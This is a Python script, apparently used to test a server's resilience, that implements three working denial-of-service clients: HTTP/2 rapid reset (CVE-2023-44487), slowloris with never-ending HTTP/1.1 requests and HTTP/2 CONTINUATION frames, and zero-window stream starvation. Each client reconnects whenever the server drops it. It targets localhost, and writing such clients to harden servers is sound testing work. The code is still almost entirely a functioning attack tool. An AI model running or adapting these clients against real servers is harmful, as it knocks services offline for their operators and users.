#!/usr/bin/env python3
"""Hostile clients, one kind at a time, until they are killed.

usage: attackers.py rapid-reset PORT | slowloris PORT COUNT | zero-window PORT PATH
rapid-reset opens streams of HTTP/2 and resets each at once (CVE-2023-44487), and connects again when
it is thrown out. slowloris keeps COUNT connections on which a request never ends: half of them of
HTTP/1.1, half of HTTP/2, a byte or a frame each few seconds. zero-window asks for PATH on
100 streams of one connection, and takes not one byte of the answers.
"""
import contextlib
import resource
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
STREAMS_OF_A_BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A field that HPACK does not index: lengths are less than 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(stream, path, flags=END_STREAM | END_HEADERS):
    block = literal(b":method", b"GET") + literal(b":scheme", b"http") \
        + literal(b":authority", b"attacked.example") + literal(b":path", path)
    return frame(HEADERS, flags, stream, block)


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port), 10)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def connect_h2(port, settings=b""):
    connection = connect(port)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def drop_what_came(connection):
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(65536):
            pass
    connection.setblocking(True)


def rapid_reset(port):
    while True:
        with contextlib.suppress(OSError), connect_h2(port) as connection:
            first = 1
            while first < 1 << 30:
                streams = range(first, first + 2 * STREAMS_OF_A_BATCH, 2)
                connection.sendall(b"".join(
                    request(stream, b"/body") + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    for stream in streams))
                first = streams.stop
                drop_what_came(connection)


def begin_slowly(port, of_h2):
    if not of_h2:
        connection = connect(port)
        connection.sendall(b"GET /body HTTP/1.1\r\nHost: attacked.example\r\nX-Slow: ")
        return connection
    connection = connect_h2(port)
    connection.sendall(request(1, b"/body", 0))  # a header section that goes on
    return connection


def go_on_slowly(connection, port, of_h2):
    """The same connection with a little more sent, or another one; None if there is none to have."""
    try:
        if not connection:
            return begin_slowly(port, of_h2)
        connection.sendall(frame(CONTINUATION, 0, 1) if of_h2 else b"x")
        return connection
    except OSError:
        if connection:
            connection.close()
        return None


def slowloris(port, count):
    """Whoever is thrown out comes back."""
    most = max(resource.getrlimit(resource.RLIMIT_NOFILE))
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    connections = [None] * count
    while True:
        connections = [go_on_slowly(connection, port, number % 2)
                       for number, connection in enumerate(connections)]
        time.sleep(3)


def zero_window(port, path):
    """Asks again when it is thrown out; otherwise it only waits."""
    settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    while True:
        with contextlib.suppress(OSError), connect_h2(port, settings) as connection:
            connection.sendall(b"".join(request(stream, path)
                                        for stream in range(1, 2 * STREAMS_OF_A_BATCH, 2)))
            while True:
                drop_what_came(connection)
                connection.sendall(frame(PING, 0, 0, bytes(8)))
                time.sleep(1)


def main(kind, port, *rest):
    if kind == "rapid-reset":
        rapid_reset(int(port))
    elif kind == "slowloris":
        slowloris(int(port), int(rest[0]))
    elif kind == "zero-window":
        zero_window(int(port), rest[0].encode())


if __name__ == "__main__":
    main(*sys.argv[1:])
